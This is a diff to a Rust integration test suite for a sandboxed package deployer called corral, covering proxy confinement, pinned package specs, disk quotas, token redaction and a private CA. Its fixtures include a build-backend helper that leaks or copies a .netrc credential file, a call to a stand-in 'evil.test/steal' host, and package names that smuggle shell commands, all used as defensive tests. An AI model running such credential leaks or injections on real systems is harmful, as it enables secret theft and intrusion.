@@ -63,6 +63,8 @@ struct Registry {
     child: Child,
     port: u16,
     root: tempfile::TempDir,
+    /// `http` or `https` (the spec's `tls`).
+    scheme: &'static str,
 }
 
 impl Drop for Registry {
@@ -98,16 +100,26 @@ impl Registry {
             .unwrap_or_else(|| panic!("registry said {line:?}"))
             .parse()
             .unwrap();
-        Registry { child, port, root }
+        let scheme = if spec.get("tls").is_some() {
+            "https"
+        } else {
+            "http"
+        };
+        Registry {
+            child,
+            port,
+            root,
+            scheme,
+        }
     }
 
     /// The flags that let the install phase reach this registry only.
     fn flags(&self) -> Vec<String> {
         vec![
             "--index-url".into(),
-            format!("http://registry.test:{}/simple/", self.port),
+            format!("{}://registry.test:{}/simple/", self.scheme, self.port),
             "--npm-registry".into(),
-            format!("http://registry.test:{}/npm/", self.port),
+            format!("{}://registry.test:{}/npm/", self.scheme, self.port),
             "--add-host".into(),
             "registry.test=127.0.0.1".into(),
             "--allow-cidr".into(),
@@ -159,20 +171,23 @@ fn deploy_env(
     extra: &[&str],
     env: &[(&str, &str)],
 ) -> serde_json::Value {
+    let mut args = vec![source.to_str().unwrap(), "--out", out.to_str().unwrap()];
+    args.extend(extra);
+    deploy_args(reg, &args, env)
+}
+
+/// `corral deploy --json --timeout 120 ARGS` with the registry's flags
+/// (and `--allow-unenforced-limits` when unprivileged): its JSON answer,
+/// with its stderr under `"stderr"`.
+fn deploy_args(reg: Option<&Registry>, args: &[&str], env: &[(&str, &str)]) -> serde_json::Value {
     let mut c = corral();
-    c.arg("deploy")
-        .arg("--json")
-        .arg(source)
-        .arg("--out")
-        .arg(out)
-        .args(["--timeout", "120"]);
+    c.args(["deploy", "--json", "--timeout", "120"]).args(args);
     if let Some(r) = reg {
         c.args(r.flags());
     }
     if !is_root() {
         c.arg("--allow-unenforced-limits");
     }
-    c.args(extra);
     for (k, v) in env {
         c.env(k, v);
     }
@@ -239,6 +254,18 @@ fn assert_nothing_left(out: &Path) {
     assert!(left.is_empty(), "left behind: {left:?}");
 }
 
+/// The phases reached the registry, through the proxy, and nothing else.
+fn assert_only_the_registry_reached(v: &serde_json::Value) {
+    let allowed = events_of(v, "net.allowed");
+    assert!(!allowed.is_empty(), "{v}");
+    assert!(
+        allowed
+            .iter()
+            .all(|e| e["fields"]["domain"] == "registry.test"),
+        "{allowed:?}"
+    );
+}
+
 fn events_of<'a>(v: &'a serde_json::Value, code: &str) -> Vec<&'a serde_json::Value> {
     v["phases"]
         .as_array()
@@ -292,14 +319,7 @@ fn requirements_pattern_installs_from_the_local_index_and_redeploys_as_a_no_op()
     );
     assert!(m["lockfiles"]["requirements.txt"].is_string(), "{m}");
     // The phase reached the registry, through the proxy, and nothing else.
-    let allowed = events_of(&v, "net.allowed");
-    assert!(!allowed.is_empty(), "{v}");
-    assert!(
-        allowed
-            .iter()
-            .all(|e| e["fields"]["domain"] == "registry.test"),
-        "{allowed:?}"
-    );
+    assert_only_the_registry_reached(&v);
     assert!(
         reg.requests().contains("/simple/corral-dep/"),
         "{}",
@@ -444,6 +464,24 @@ def _attack():
     elif what[0] == 'write':
         open(what[1], 'w').write('planted')
         print('planted', what[1])
+    elif what[0] == 'leak':
+        print('leaked:', open(what[1]).read())
+        raise SystemExit('leaked')
+    elif what[0] == 'copy':
+        open(what[2], 'w').write(open(what[1]).read())
+    elif what[0] == 'fill':
+        # int(what[1]) files of 1 MiB into the tree, 50 ms apart: bounded.
+        import time
+        for i in range(int(what[1])):
+            open('fill-%d' % i, 'wb').write(b'x' * (1 << 20))
+            time.sleep(0.05)
+        print('filled', what[1])
+    elif what[0] == 'fillone':
+        # One file of int(what[1]) MiB: bounded.
+        with open('big', 'wb') as f:
+            for i in range(int(what[1])):
+                f.write(b'x' * (1 << 20))
+        print('wrote big')
 
 def get_requires_for_build_wheel(config_settings=None):
     return []
@@ -580,21 +618,24 @@ fn a_hostile_install_cannot_reach_a_domain_not_allowed() {
         Some(&format!("network http://evil.test:{}/steal", reg.port)),
     );
     let out = base.path().join("tree");
-    let v = deploy(Some(&reg), &src, &out, &[]);
-    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
-    let msg = v["error"]["message"].as_str().unwrap();
-    assert!(
-        msg.contains("the proxy refused") && msg.contains("evil.test"),
-        "{msg}"
-    );
-    let denied = events_of(&v, "net.denied");
-    assert!(
-        denied.iter().any(|e| e["fields"]["domain"] == "evil.test"
-            && e["fields"]["reason"] == "net.denied.not_allowed"),
-        "{denied:?}"
-    );
-    assert!(!reg.requests().contains("steal"), "{}", reg.requests());
-    assert_nothing_left(&out);
+    // pip, then uv: the same confinement.
+    for installer in [&[][..], &["--uv", uv()][..]] {
+        let v = deploy(Some(&reg), &src, &out, installer);
+        assert_eq!(v["error"]["code"], "deploy.phase", "{installer:?}: {v}");
+        let msg = v["error"]["message"].as_str().unwrap();
+        assert!(
+            msg.contains("the proxy refused") && msg.contains("evil.test"),
+            "{msg}"
+        );
+        let denied = events_of(&v, "net.denied");
+        assert!(
+            denied.iter().any(|e| e["fields"]["domain"] == "evil.test"
+                && e["fields"]["reason"] == "net.denied.not_allowed"),
+            "{denied:?}"
+        );
+        assert!(!reg.requests().contains("steal"), "{}", reg.requests());
+        assert_nothing_left(&out);
+    }
 }
 
 #[test]
@@ -1179,17 +1220,11 @@ fn a_server_deployed_from_its_config_entry_is_supervised_and_answers_through_the
     );
     drop(early);
     // `corral deploy --config F --server dep` installs its source into its dir.
-    let mut c = corral();
-    c.args(["deploy", "--json", "--timeout", "120", "--config"])
-        .arg(&cfg)
-        .args(["--server", "dep"])
-        .args(reg.flags());
-    if !is_root() {
-        c.arg("--allow-unenforced-limits");
-    }
-    let out = c.output().unwrap();
-    let v: serde_json::Value = serde_json::from_slice(&out.stdout)
-        .unwrap_or_else(|e| panic!("{e}: {} {}", text(&out.stdout), text(&out.stderr)));
+    let v = deploy_args(
+        Some(&reg),
+        &["--config", cfg.to_str().unwrap(), "--server", "dep"],
+        &[],
+    );
     let manifest = ok(&v);
     assert_eq!(manifest["entry"]["path"], "server.py", "{manifest}");
     assert!(tree.join("corral-manifest.json").is_file());
@@ -1199,4 +1234,629 @@ fn a_server_deployed_from_its_config_entry_is_supervised_and_answers_through_the
     let r = run_sdk_python(CALL_DEP_VALUE, &[url], "");
     assert_eq!(r["tools"], serde_json::json!(["dep_value"]), "{r}");
     assert_eq!(r["value"], "dep-1.0", "{r}");
+}
+
+/// A registry with packages to deploy by name: a wheel whose console
+/// script is the stdlib MCP server (it needs corral-dep), and a scoped npm
+/// package whose `bin` needs corral-left.
+fn package_registry() -> Registry {
+    package_registry_with(serde_json::json!({}))
+}
+
+/// [`package_registry`] with more keys of the spec (`token`, `tls`).
+fn package_registry_with(extra: serde_json::Value) -> Registry {
+    let mut spec = serde_json::json!({
+        "host": "registry.test",
+        "wheels": [
+            {"name": "corral-dep", "version": "1.0", "files": {"corral_dep.py": "VALUE = 'dep-1.0'\n"}},
+            {"name": "corral-mcp-tool", "version": "1.0", "requires": ["corral-dep==1.0"],
+             "files": {"corral_mcp_tool.py": "def main():\n    import corral_mcp_tool_impl\n",
+                       "corral_mcp_tool_impl.py": STDLIB_MCP_SERVER},
+             "entry_points": {"corral-mcp-tool": "corral_mcp_tool:main"}},
+        ],
+        "npm": [
+            {"name": "corral-left", "version": "1.0.0",
+             "files": {"index.js": "module.exports = () => 'left-1.0.0';\n"}},
+            {"name": "@corral/hello", "version": "1.2.3",
+             "package": {"bin": {"hello": "cli.js"}, "dependencies": {"corral-left": "1.0.0"}},
+             "files": {"cli.js": "#!/usr/bin/env node\nconsole.log('hello', require('corral-left')());\n"}},
+        ],
+    });
+    for (k, v) in extra.as_object().unwrap() {
+        spec[k] = v.clone();
+    }
+    Registry::start(spec)
+}
+
+/// `corral deploy --json --package SPEC --out OUT` with the registry's flags.
+fn deploy_package(reg: &Registry, spec: &str, out: &Path) -> serde_json::Value {
+    deploy_args(
+        Some(reg),
+        &["--package", spec, "--out", out.to_str().unwrap()],
+        &[],
+    )
+}
+
+#[test]
+fn an_npm_package_is_deployed_pinned_and_runs_from_the_tree() {
+    let reg = package_registry();
+    let base = Base::new();
+    let out = base.path().join("tree");
+    let v = deploy_package(&reg, "npm:@corral/hello@1.2.3", &out);
+    let m = ok(&v);
+    assert_eq!(m["pattern"], "node_install");
+    assert_eq!(m["source"], "npm:@corral/hello@1.2.3");
+    assert_eq!(
+        m["entry"],
+        serde_json::json!({"kind": "node", "path": "node_modules/@corral/hello/cli.js", "rule": "@corral/hello.bin.hello"})
+    );
+    // The integrity is the registry's, as npm checked it.
+    let want = reg.packument("@corral/hello")["versions"]["1.2.3"]["dist"]["integrity"].clone();
+    assert!(want.as_str().unwrap().starts_with("sha512-"), "{want}");
+    assert_eq!(m["package"]["integrity"], want, "{m}");
+    assert_eq!(m["package"]["spec"], "npm:@corral/hello@1.2.3");
+    assert!(m["package"]["installed"]["corral-left@1.0.0"]
+        .as_str()
+        .unwrap()
+        .starts_with("sha512-"));
+    // Lifecycle scripts were off; only the registry was reached.
+    assert!(m["phases"][0]["argv"][2]
+        .as_str()
+        .unwrap()
+        .contains("--ignore-scripts"));
+    assert_only_the_registry_reached(&v);
+    let entry = out.join("node_modules/@corral/hello/cli.js");
+    let said = run_in_tree("mcp-node", &out, false, &["node", entry.to_str().unwrap()]);
+    assert_eq!(said, "hello left-1.0.0\n");
+    // The same spec again: a no-op.
+    let again = deploy_package(&reg, "npm:@corral/hello@1.2.3", &out);
+    assert_eq!(again["noop"], true, "{again}");
+    assert_eq!(again["manifest"]["created"], m["created"]);
+}
+
+#[test]
+fn a_pypi_package_deployed_from_its_config_entry_answers_through_the_bridge() {
+    let reg = package_registry();
+    let base = Base::new();
+    let tree = base.path().join("tree");
+    let extra = format!(
+        "[profile.mcpx]\nextends = \"mcp-python\"\n[profile.mcpx.limits]\nallow_unenforced = {}\n\
+         [[server.mcp_server]]\nname = \"tool\"\nruntime = \"deployed\"\ndir = \"{}\"\npackage = \"pypi:corral-mcp-tool==1.0\"\nprofile = \"mcpx\"\n",
+        !is_root(),
+        tree.display(),
+    );
+    let cfg_dir = tempfile::tempdir().unwrap();
+    let cfg = serve_config(cfg_dir.path(), &extra);
+    let deploy_server = || {
+        deploy_args(
+            Some(&reg),
+            &["--config", cfg.to_str().unwrap(), "--server", "tool"],
+            &[],
+        )
+    };
+    let v = deploy_server();
+    let m = ok(&v);
+    assert_eq!(m["source"], "pypi:corral-mcp-tool==1.0");
+    assert_eq!(
+        m["entry"],
+        serde_json::json!({"kind": "console_script", "name": "corral-mcp-tool", "path": ".venv/bin/corral-mcp-tool", "rule": "entry_points.console_scripts"})
+    );
+    assert!(
+        m["package"]["integrity"]
+            .as_str()
+            .unwrap()
+            .starts_with("sha256:"),
+        "{m}"
+    );
+    assert!(
+        m["package"]["installed"]["corral_dep==1.0"].is_string(),
+        "{m}"
+    );
+    assert!(reg.requests().contains("/simple/corral-mcp-tool/"));
+    // corral serve runs the tree and the official client calls it.
+    let server = start_server_in(tempfile::tempdir().unwrap(), &cfg, &[]);
+    let url = format!("http://{}/mcp/servers/tool", server.addr);
+    let r = run_sdk_python(CALL_DEP_VALUE, &[url], "");
+    assert_eq!(r["tools"], serde_json::json!(["dep_value"]), "{r}");
+    assert_eq!(r["value"], "dep-1.0", "{r}");
+    drop(server);
+    // The same entry again: a no-op.
+    let again = deploy_server();
+    assert_eq!(again["noop"], true, "{again}");
+}
+
+#[test]
+fn package_specs_must_be_pinned_valid_and_in_the_registry() {
+    let reg = package_registry();
+    let base = Base::new();
+    let out = base.path().join("tree");
+    // Refused up front (request.invalid), or, not in the registry, by the
+    // install phase (deploy.phase) saying what and where; nothing left.
+    let not_found = "could not be installed from http://registry.test";
+    for (spec, code, wants) in [
+        (
+            "npm:@corral/hello@^1.2.3",
+            "request.invalid",
+            ["not an exact version", ""],
+        ),
+        (
+            "npm:@corral/hello@latest",
+            "request.invalid",
+            ["not an exact version", ""],
+        ),
+        ("npm:@corral/hello", "request.invalid", ["no version", ""]),
+        (
+            "pypi:corral-mcp-tool>=1.0",
+            "request.invalid",
+            ["not one exact version", ""],
+        ),
+        (
+            "pypi:corral-mcp-tool==1.*",
+            "request.invalid",
+            ["not an exact version", ""],
+        ),
+        (
+            "pypi:$(touch /var/tmp/x)==1.0",
+            "request.invalid",
+            ["not a Python package name", ""],
+        ),
+        (
+            "npm:Corral;id@1.0.0",
+            "request.invalid",
+            ["not an npm package name", ""],
+        ),
+        (
+            "pypi:corral-nope==1.0",
+            "deploy.phase",
+            [not_found, "No matching distribution"],
+        ),
+        ("npm:corral-nope@1.0.0", "deploy.phase", [not_found, "404"]),
+        (
+            "pypi:corral-dep==2.0",
+            "deploy.phase",
+            [not_found, "No matching distribution"],
+        ),
+    ] {
+        let v = deploy_package(&reg, spec, &out);
+        assert_eq!(v["error"]["code"], code, "{spec}: {v}");
+        let msg = v["error"]["message"].as_str().unwrap();
+        assert!(wants.iter().all(|w| msg.contains(w)), "{spec}: {msg}");
+        if code == "deploy.phase" {
+            assert!(msg.contains(&format!("{spec} {not_found}")), "{msg}");
+        }
+        assert_nothing_left(&out);
+    }
+    // A spec given as SOURCE says to use --package.
+    let o = corral()
+        .args(["deploy", "--json", "npm:@corral/hello@1.2.3", "--out"])
+        .arg(&out)
+        .output()
+        .unwrap();
+    assert!(
+        text(&o.stdout).contains("--package npm:@corral/hello@1.2.3"),
+        "{}",
+        text(&o.stdout)
+    );
+}
+
+/// uv, installed by scripts/test.sh from PyPI (a wheel with a static
+/// binary) into the test venv.
+const UV: &str = "/opt/corral-test-venv/bin/uv";
+
+fn uv() -> &'static str {
+    assert!(
+        Path::new(UV).is_file(),
+        "{UV} is missing: scripts/test.sh installs it (pip install uv into /opt/corral-test-venv)"
+    );
+    UV
+}
+
+#[test]
+fn uv_installs_a_package_project_through_the_proxy_from_the_named_index_only() {
+    let reg = registry();
+    let base = Base::new();
+    let src = package_source(&base, "src", None);
+    // A [tool.uv] index of the source's own is not where packages come
+    // from: corral's configuration is (uv runs with UV_NO_CONFIG).
+    let mut py = std::fs::read_to_string(src.join("pyproject.toml")).unwrap();
+    py.push_str(&format!(
+        "\n[tool.uv]\nindex-url = \"http://evil.test:{}/simple/\"\n",
+        reg.port
+    ));
+    std::fs::write(src.join("pyproject.toml"), py).unwrap();
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &["--uv", uv()]);
+    let m = ok(&v);
+    assert_eq!(m["pattern"], "python_package");
+    let script = m["phases"][0]["argv"][2].as_str().unwrap();
+    assert!(
+        script.contains(&format!("{UV} sync --no-dev --no-editable --python")),
+        "{script}"
+    );
+    assert!(!script.contains("pip install"), "{script}");
+    assert_eq!(m["entry"]["path"], ".venv/bin/corral-app");
+    assert!(m["lockfiles"]["uv.lock"].is_string(), "{m}");
+    let pk = m["packages"].as_array().unwrap();
+    assert!(pk.iter().any(|p| p == "corral_dep==1.0"), "{pk:?}");
+    // Through the proxy, to the registry only; evil.test never asked.
+    assert_only_the_registry_reached(&v);
+    assert!(events_of(&v, "net.denied").is_empty(), "{v}");
+    assert!(reg.requests().contains("/simple/corral-dep/"));
+    let said = run_in_tree(
+        "mcp-python",
+        &out,
+        true,
+        &[
+            "python3",
+            out.join(".venv/bin/corral-app").to_str().unwrap(),
+        ],
+    );
+    assert_eq!(said, "app dep-1.0\n");
+    // Redeploying with uv is a no-op.
+    let again = deploy(Some(&reg), &src, &out, &["--uv", uv()]);
+    assert_eq!(again["noop"], true, "{again}");
+}
+
+/// uv's confinement is tested with pip's in
+/// `a_hostile_install_cannot_reach_a_domain_not_allowed`.
+#[test]
+fn uv_installs_packages_by_name_and_only_when_the_profile_allows_it() {
+    let reg = package_registry();
+    let base = Base::new();
+    let src = package_source(&base, "src", None);
+    let out = base.path().join("tree");
+    // A PyPI package through uv: uv venv, uv pip install.
+    let v = deploy_args(
+        Some(&reg),
+        &[
+            "--uv",
+            uv(),
+            "--package",
+            "pypi:corral-mcp-tool==1.0",
+            "--out",
+            out.to_str().unwrap(),
+        ],
+        &[],
+    );
+    let m = ok(&v);
+    let script = m["phases"][0]["argv"][2].as_str().unwrap();
+    assert!(script.contains(&format!("{UV} pip install")), "{script}");
+    assert_eq!(m["entry"]["path"], ".venv/bin/corral-mcp-tool");
+    assert!(out.join(".venv/bin/corral-mcp-tool").is_file());
+    // A --uv the install profile does not allow is refused up front.
+    let cfg = base.path().join("c.toml");
+    std::fs::write(
+        &cfg,
+        "[profile.noinstaller]\nextends = \"install\"\n[profile.noinstaller.commands]\nallow = [\"sh\", \"python3\"]\n",
+    )
+    .unwrap();
+    let v = deploy(
+        Some(&reg),
+        &src,
+        &base.path().join("tree2"),
+        &[
+            "--uv",
+            uv(),
+            "--config",
+            cfg.to_str().unwrap(),
+            "--install-profile",
+            "noinstaller",
+        ],
+    );
+    assert_eq!(v["error"]["code"], "deploy.config", "{v}");
+    assert!(
+        v["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("does not allow `uv`"),
+        "{v}"
+    );
+}
+
+#[test]
+fn a_tree_past_its_quota_is_stopped_during_the_phase_and_leaves_nothing() {
+    let reg = registry();
+    let base = Base::new();
+    // 200 files of 1 MiB, 50 ms apart (10 s if nothing stops it), against
+    // a quota of 8 MiB from the config's [deploy] section.
+    let src = package_source(&base, "src", Some("fill 200"));
+    let out = base.path().join("tree");
+    let cfg = base.path().join("c.toml");
+    std::fs::write(&cfg, "[deploy]\nmax_tree_bytes = \"8MiB\"\n").unwrap();
+    let started = std::time::Instant::now();
+    let v = deploy(Some(&reg), &src, &out, &["--config", cfg.to_str().unwrap()]);
+    assert_eq!(v["error"]["code"], "deploy.quota", "{v}");
+    let msg = v["error"]["message"].as_str().unwrap();
+    assert!(
+        msg.contains("the install phase wrote more than the tree's quota of 8388608 bytes")
+            && msg.contains("when corral stopped the phase")
+            && msg.contains("max_tree_bytes"),
+        "{msg}"
+    );
+    // Stopped while it ran, long before the payload's 10 s.
+    let wall = v["phases"][0]["wall_ms"].as_u64().unwrap();
+    assert!(wall < 6000, "the phase ran {wall} ms");
+    assert!(started.elapsed().as_secs() < 60);
+    assert_nothing_left(&out);
+    // One file larger than the quota: the file size limit (no file
+    // larger than the quota) or the watcher, whichever is first, stops it.
+    std::fs::write(src.join("attack"), "fillone 32").unwrap();
+    let v = deploy(Some(&reg), &src, &out, &["--max-tree-bytes", "8MiB"]);
+    assert_eq!(v["error"]["code"], "deploy.quota", "{v}");
+    let msg = v["error"]["message"].as_str().unwrap();
+    assert!(
+        msg.contains("a single file reached the quota")
+            || msg.contains("when corral stopped the phase"),
+        "{msg}"
+    );
+    assert_nothing_left(&out);
+    // Within the quota the same source deploys.
+    std::fs::write(src.join("attack"), "fill 2").unwrap();
+    let v = deploy(Some(&reg), &src, &out, &["--max-tree-bytes", "64MiB"]);
+    ok(&v);
+    // A bad size is refused up front.
+    let v = deploy(
+        Some(&reg),
+        &src,
+        &base.path().join("t2"),
+        &["--max-tree-bytes", "lots"],
+    );
+    assert_eq!(v["error"]["code"], "request.invalid", "{v}");
+}
+
+/// Every file under `dir` (links not followed), as bytes.
+fn all_files(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(p) = stack.pop() {
+        let m = std::fs::symlink_metadata(&p).unwrap();
+        if m.is_dir() {
+            stack.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
+        } else if m.is_file() {
+            out.push((p.clone(), std::fs::read(&p).unwrap()));
+        }
+    }
+    out
+}
+
+fn holds(bytes: &[u8], needle: &str) -> bool {
+    bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
+}
+
+const TOKEN: &str = "tok-corral-5d1e8a93f0";
+
+#[test]
+fn registry_tokens_reach_the_install_phase_only_and_never_the_tree_logs_or_events() {
+    let reg = package_registry_with(serde_json::json!({"token": TOKEN}));
+    let base = Base::new();
+    let cfg = base.path().join("c.toml");
+    std::fs::write(
+        &cfg,
+        format!(
+            "[[deploy.registry_auth]]\nregistry = \"http://registry.test:{p}/simple/\"\ntoken_env = \"CORRAL_TEST_REGISTRY_TOKEN\"\n\
+             [[deploy.registry_auth]]\nregistry = \"http://registry.test:{p}/npm/\"\ntoken_env = \"CORRAL_TEST_REGISTRY_TOKEN\"\n",
+            p = reg.port
+        ),
+    )
+    .unwrap();
+    let cfg_flag = ["--config", cfg.to_str().unwrap()];
+    // A deployment of `src` to `out` with the token in corral's environment.
+    let with_token = |src: &Path, out: &Path, flags: &[&str]| {
+        deploy_env(
+            Some(&reg),
+            src,
+            out,
+            flags,
+            &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)],
+        )
+    };
+    // The variable unset: refused up front, naming it.
+    let out = base.path().join("tree");
+    let src = package_source(&base, "src", Some("leak /workspace/.netrc"));
+    let v = deploy(Some(&reg), &src, &out, &cfg_flag);
+    assert_eq!(v["error"]["code"], "config.invalid", "{v}");
+    assert!(v["error"]["message"]
+        .as_str()
+        .unwrap()
+        .contains("CORRAL_TEST_REGISTRY_TOKEN"));
+    assert_nothing_left(&out);
+    // Without the token the registry refuses.
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    // With it: a build backend that prints the .netrc it can read and
+    // fails gets its output redacted in the error.
+    let events = base.path().join("events.jsonl");
+    let mut flags = cfg_flag.to_vec();
+    flags.extend(["--events", events.to_str().unwrap()]);
+    let failed = with_token(&src, &out, &flags);
+    assert_eq!(failed["error"]["code"], "deploy.phase", "{failed}");
+    let msg = failed["error"]["message"].as_str().unwrap();
+    assert!(
+        msg.contains("leaked: machine registry.test login __token__ password [redacted]"),
+        "{msg}"
+    );
+    assert!(!failed.to_string().contains(TOKEN));
+    assert_nothing_left(&out);
+    // The install phase authenticates (pip through .netrc).
+    std::fs::remove_file(src.join("attack")).unwrap();
+    let v = with_token(&src, &out, &flags);
+    ok(&v);
+    assert!(
+        reg.requests().contains("AUTH /simple/corral-dep/"),
+        "{}",
+        reg.requests()
+    );
+    // npm, through .npmrc's _authToken.
+    let npm_out = base.path().join("npm-tree");
+    let mut args = cfg_flag.to_vec();
+    args.extend([
+        "--package",
+        "npm:@corral/hello@1.2.3",
+        "--out",
+        npm_out.to_str().unwrap(),
+    ]);
+    let npm_v = deploy_args(Some(&reg), &args, &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)]);
+    ok(&npm_v);
+    assert!(reg
+        .requests()
+        .contains("AUTH /npm/@corral/hello/-/hello-1.2.3.tgz"));
+    // The token is nowhere corral wrote: the trees (manifest, logs,
+    // audit.jsonl, everything installed), the events file, the output.
+    for tree in [&out, &npm_out] {
+        for (path, bytes) in all_files(tree) {
+            assert!(!holds(&bytes, TOKEN), "the token is in {}", path.display());
+        }
+    }
+    assert!(!holds(&std::fs::read(&events).unwrap(), TOKEN));
+    assert!(!v.to_string().contains(TOKEN) && !npm_v.to_string().contains(TOKEN));
+    // A phase that copies the token into the tree: refused, nothing left.
+    std::fs::write(src.join("attack"), "copy /workspace/.netrc leak.txt").unwrap();
+    let out2 = base.path().join("tree2");
+    let v = with_token(&src, &out2, &cfg_flag);
+    assert_eq!(v["error"]["code"], "deploy.credential", "{v}");
+    assert!(
+        v["error"]["message"].as_str().unwrap().contains("leak.txt"),
+        "{v}"
+    );
+    assert!(!v.to_string().contains(TOKEN));
+    assert_nothing_left(&out2);
+}
+
+/// A test CA and a certificate for registry.test signed by it (openssl).
+fn test_ca(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
+    let sh = |args: &[&str]| {
+        let o = Command::new("openssl")
+            .args(args)
+            .current_dir(dir)
+            .output()
+            .unwrap();
+        assert!(o.status.success(), "openssl {args:?}: {}", text(&o.stderr));
+    };
+    sh(&[
+        "req",
+        "-x509",
+        "-newkey",
+        "rsa:2048",
+        "-nodes",
+        "-keyout",
+        "ca.key",
+        "-out",
+        "ca.pem",
+        "-days",
+        "2",
+        "-subj",
+        "/CN=corral test CA",
+        "-addext",
+        "basicConstraints=critical,CA:TRUE",
+        "-addext",
+        "keyUsage=critical,keyCertSign,cRLSign",
+    ]);
+    sh(&[
+        "req",
+        "-newkey",
+        "rsa:2048",
+        "-nodes",
+        "-keyout",
+        "leaf.key",
+        "-out",
+        "leaf.csr",
+        "-subj",
+        "/CN=registry.test",
+    ]);
+    std::fs::write(
+        dir.join("ext.cnf"),
+        "subjectAltName=DNS:registry.test\nbasicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature,keyEncipherment\nextendedKeyUsage=serverAuth\n",
+    )
+    .unwrap();
+    sh(&[
+        "x509",
+        "-req",
+        "-in",
+        "leaf.csr",
+        "-CA",
+        "ca.pem",
+        "-CAkey",
+        "ca.key",
+        "-CAcreateserial",
+        "-out",
+        "leaf.pem",
+        "-days",
+        "2",
+        "-extfile",
+        "ext.cnf",
+    ]);
+    for f in ["ca.pem", "leaf.pem", "leaf.key"] {
+        std::fs::set_permissions(dir.join(f), std::fs::Permissions::from_mode(0o644)).unwrap();
+    }
+    (
+        dir.join("ca.pem"),
+        dir.join("leaf.pem"),
+        dir.join("leaf.key"),
+    )
+}
+
+#[test]
+fn a_ca_bundle_lets_the_install_phase_trust_a_registry_with_a_private_ca() {
+    let base = Base::new();
+    let ca_dir = base.path().join("ca");
+    std::fs::create_dir(&ca_dir).unwrap();
+    let (ca, cert, key) = test_ca(&ca_dir);
+    let reg = package_registry_with(serde_json::json!({
+        "tls": {"cert": cert, "key": key},
+    }));
+    let src = base.source(
+        "src",
+        &[
+            ("requirements.txt", "corral-dep==1.0\n"),
+            ("main.py", "import corral_dep\nprint(corral_dep.VALUE)\n"),
+        ],
+    );
+    // Untrusted: pip refuses the registry's certificate.
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    let msg = v["error"]["message"].as_str().unwrap();
+    assert!(
+        msg.to_lowercase().contains("certificate verify failed"),
+        "{msg}"
+    );
+    assert_nothing_left(&out);
+    // With the bundle: pip, uv and npm trust it.
+    let ca_flag = ["--ca-bundle", ca.to_str().unwrap()];
+    let m = ok(&deploy(Some(&reg), &src, &out, &ca_flag)).clone();
+    assert_eq!(m["entry"]["path"], "main.py");
+    let mut with_uv = ca_flag.to_vec();
+    with_uv.extend(["--uv", uv()]);
+    ok(&deploy(
+        Some(&reg),
+        &src,
+        &base.path().join("uv-tree"),
+        &with_uv,
+    ));
+    let npm_out = base.path().join("npm-tree");
+    let mut args = ca_flag.to_vec();
+    args.extend([
+        "--package",
+        "npm:@corral/hello@1.2.3",
+        "--out",
+        npm_out.to_str().unwrap(),
+    ]);
+    ok(&deploy_args(Some(&reg), &args, &[]));
+    assert!(reg
+        .requests()
+        .contains("/npm/@corral/hello/-/hello-1.2.3.tgz"));
+    // The bundle is not left in the phase's HOME or the tree.
+    assert!(!out.join(".corral-ca.pem").exists());
+    // Not a PEM bundle: refused before anything.
+    let v = deploy(
+        Some(&reg),
+        &src,
+        &base.path().join("t3"),
+        &["--ca-bundle", src.join("main.py").to_str().unwrap()],
+    );
+    assert_eq!(v["error"]["code"], "deploy.config", "{v}");
+    assert!(v["error"]["message"]
+        .as_str()
+        .unwrap()
+        .contains("BEGIN CERTIFICATE"));
 }
